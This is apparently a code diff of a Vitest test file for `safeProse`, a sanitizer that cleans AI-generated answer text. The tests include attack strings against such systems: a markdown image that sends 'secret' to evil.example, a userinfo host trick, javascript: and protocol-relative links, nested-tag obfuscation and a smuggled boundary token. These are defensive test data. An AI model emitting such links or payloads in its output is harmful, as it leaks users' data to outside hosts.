@@ -3,13 +3,8 @@ import { describe, expect, it } from "vitest"
 import { makeEvidence } from "../../core/answering/evidence.js"
 import { answerMessages, clean } from "../../core/answering/prompt.js"
 import { readQuestion } from "../../core/answering/question.js"
-import {
-  checkCitations,
-  markersIn,
-  parseReply,
-  replyFromProse,
-  safeProse
-} from "../../core/answering/reply.js"
+import { checkCitations, markersIn, parseReply, replyFromProse } from "../../core/answering/reply.js"
+import { safeProse } from "../../core/answering/safe-prose.js"
 import { analyse } from "../../core/retrieval/index.js"
 import { passageOf } from "../support/passages.js"
 
@@ -108,13 +103,24 @@ describe("safeProse", () => {
   it.each([
     ["Look ![x](https://evil.example/p.png?d=secret) here", "Look x here"],
     ["See [docs](https://evil.example/a) now", "See docs now"],
-    ["See [docs](https://good.example/a) now", "See [docs](https://good.example/a) now"],
+    ["See [docs](https://good.example/start) now", "See [docs](https://good.example/start) now"],
+    ["See [docs](https://good.example/start?q=secret) now", "See docs now"],
+    ["It is at https://good.example/start.", "It is at https://good.example/start."],
     ["Go to https://evil.example/a.", "Go to"],
     ['<img src="https://evil.example/a">Text', "Text"],
     ["See [docs](https://good.example@evil.example/a)", "See docs"],
-    ["See [a](//evil.example/x) and [b](javascript:alert)", "See a and b"]
+    ["See [a](//evil.example/x) and [b](javascript:alert)", "See a and b"],
+    ["Ten [S1] or nine [S9] years [S1, S9]", "Ten [S1] or nine years [S1]"],
+    ["The mark is b0undary, said b0unb0undarydary", "The mark is , said"],
+    ["<<b>img src=x>[S[S9]9]", ""],
+    ["If a < b then x <y", "If a < b then x < y"]
   ])("%j", (prose, expected) => {
-    expect(safeProse(prose, ["The page https://good.example/start tells more."])).toBe(expected)
+    const rules = {
+      registry: new Set(["S1"]),
+      boundary: "b0undary",
+      evidenceTexts: ["The page https://good.example/start tells more."]
+    }
+    expect(safeProse(prose, rules)).toBe(expected)
   })
 })
 
